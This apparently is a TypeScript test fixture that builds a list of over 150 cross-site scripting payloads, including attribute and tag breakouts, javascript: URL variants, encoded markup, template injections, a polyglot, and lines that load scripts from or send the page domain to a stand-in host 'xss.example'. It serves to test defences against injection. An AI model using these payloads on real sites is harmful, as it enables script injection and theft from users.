/** Code that would be noticed: a dialog, a request or a mark on the page. */
const CALLS = ["alert(1)", "fetch('//xss.example/'+document.domain)", "window.hacked=1"] as const;

/** What ends the place that a text may stand in. */
const BREAKOUTS = ["", '">', "'>", "</title>", "</style>", "</script>", "-->", "</textarea>", "]]>", "</svg></math>"] as const;

const bodies = (call: string): string[] => [
  `<script>${call}</script>`,
  `<img src=x onerror="${call}">`,
  `<svg onload=${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<details open ontoggle=${call}>x</details>`,
];

/** Attribute breakouts, addresses with code, encoded and half-open markup, styles, templates, polyglots. */
const SINGLE = [
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  "` onerror=alert(1) `",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript&colon;alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "//xss.example/",
  'http://xss.example/"onclick="alert(1)',
  "https://xss.example/' onclick='alert(1)",
  "file:///etc/passwd",
  "blob:https://xss.example/1",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=//xss.example/x.js></script>",
  "<script\u000C>alert(1)</script>",
  "<<script>alert(1)//<</script>",
  "<img src=x onerror=alert(1)//",
  "<img/src=`x`onerror=alert(1)>",
  '<img src="//xss.example/pixel">',
  '<link rel=stylesheet href="//xss.example/a.css">',
  '<link rel=prefetch href="//xss.example/">',
  "<style>@import '//xss.example/a.css';</style>",
  "<style>body{display:none}</style>",
  '<b style="position:fixed;inset:0;background:red">x</b>',
  '<meta http-equiv=refresh content="0;url=//xss.example/">',
  '<base href="//xss.example/">',
  '<form action="//xss.example/"><input autofocus onfocus=alert(1)></form>',
  "<object data=//xss.example/></object>",
  "<embed src=//xss.example/>",
  '<a href="javascript:alert(1)">x</a>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  "<body onload=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<!--><img src=x onerror=alert(1)>-->",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "\u003c!--\u003cscript>alert(1)",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "#{alert(1)}",
  "<%= alert(1) %>",
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
  "\u202E<script>alert(1)</script>",
  "＜script＞alert(1)＜/script＞",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
] as const;

/** More than 150 texts that have broken pages elsewhere: each breakout with each body, and those that stand alone. */
export const PAYLOADS: readonly string[] = [
  ...BREAKOUTS.flatMap((breakout) => bodies(CALLS[0]).map((body) => breakout + body)),
  ...BREAKOUTS.flatMap((breakout, at) => bodies(CALLS[1 + (at % 2)]!).map((body) => breakout + body)),
  ...SINGLE,
];
